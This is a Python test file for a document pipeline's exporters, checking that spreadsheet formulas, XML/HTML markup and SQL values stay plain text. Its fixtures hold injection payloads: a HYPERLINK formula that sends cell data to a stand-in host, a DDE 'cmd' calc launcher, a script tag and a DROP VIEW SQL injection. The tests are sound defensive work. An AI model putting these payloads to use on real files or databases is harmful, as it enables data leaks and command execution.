"""What stands in a document is text wherever it goes: no formula in a spreadsheet, no element in XML, no command in SQL."""

import csv
import io
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pandas as pd
import pytest

from pipeline.errors import SettingsError
from pipeline.model import Document, Fix, Page, Word
from pipeline.writing.alto import to_alto
from pipeline.writing.hocr import to_hocr
from pipeline.writing.tables import TABLES, export, harmless, query, to_frame, write_csv

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"xem")',
    "+84 912 345 678",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "- cmd|' /C calc'!A0",
    '- HYPERLINK("http://x.example")',
    "=1+1\x00",
]
TEXTS = [
    "- Như trên;",
    "- Bộ GDĐT (để b/c);",
    "KH = kế hoạch",
    "70% trở lên",
    "",
    " Số: 5",
    "(=)",
    "– Lưu: VT",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", TEXTS)
def test_text_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def folder_of_tables(folder: Path, documents: list[dict[str, object]]) -> Path:
    for name in TABLES:
        rows = documents if name == "documents" else []
        to_frame(name, rows).to_parquet(folder / f"{name}.parquet", index=False)
    return folder


def test_a_table_that_no_sheet_takes_is_said_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = folder_of_tables(tmp_path, [{"document": str(number)} for number in range(3)])
    monkeypatch.setattr("pipeline.writing.tables.SHEET_ROWS", 2)
    with pytest.raises(SettingsError, match=r"documents has 3 rows.*export csv or parquet"):
        export(folder, "xlsx", tmp_path)
    assert not (tmp_path / "kehoach.xlsx").exists()


def test_no_cell_that_leaves_is_a_formula(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"document": str(number), "title": cell} for number, cell in enumerate(FORMULAS + TEXTS)
    ]
    folder = folder_of_tables(tmp_path, rows)
    export(folder, "xlsx", tmp_path)
    sheet = openpyxl.load_workbook(tmp_path / "kehoach.xlsx")["documents"]
    assert [cell.coordinate for row in sheet for cell in row if cell.data_type == "f"] == []
    write_csv(to_frame("documents", rows), tmp_path / "documents.csv")
    with (tmp_path / "documents.csv").open(encoding="utf-8-sig", newline="") as file:
        titles = [row["title"] for row in csv.DictReader(file)]
    lines = [cell.replace("\r", "\n") for cell in FORMULAS]  # a bare carriage return would begin a new row
    assert titles == [f"'{cell}" for cell in lines] + TEXTS
    command = [sys.executable, "-m", "pipeline", "query", str(folder), "SELECT title FROM documents"]
    told = subprocess.run(command, capture_output=True, check=True).stdout.decode()
    assert [row[0] for row in csv.reader(io.StringIO(told, newline="")) if row][1:15] == titles[:14]


def test_markup_and_control_characters_are_text_in_xml_and_html() -> None:
    cruel = '<script>alert("1")</script>&amp;]]>\x00\x0b\x1f\x7f\ufffe\ud800'
    word = f"{cruel}x"
    page = Page(1, word, (Word(0, len(word)),), "ocr", width=9, height=9, dpi=300)
    failed = Page(2, "", status="failed", reason=cruel)
    document = Document(
        f"{cruel}.pdf", "0" * 64, (page, failed), (Fix(0, len(word), word, f"{cruel}y", "channel", 0.5),)
    )
    for written in to_alto(document), to_hocr(document):
        root = ET.fromstring(written.encode("utf-8"))
        assert not [element for element in root.iter() if str(element.tag).endswith("script")]
        assert "<script" not in written
        assert not {char for char in written if char < " " and char not in "\t\n"}


def test_a_value_in_sql_is_no_command(tmp_path: Path) -> None:
    name = "x'; DROP VIEW documents; --"
    folder = tmp_path / 'it\'s "here"'
    folder.mkdir()
    folder_of_tables(folder, [{"document": name}])
    assert query(folder, "SELECT document FROM documents")["document"].tolist() == [name]
    assert isinstance(query(folder, "SELECT count(*) FROM documents"), pd.DataFrame)
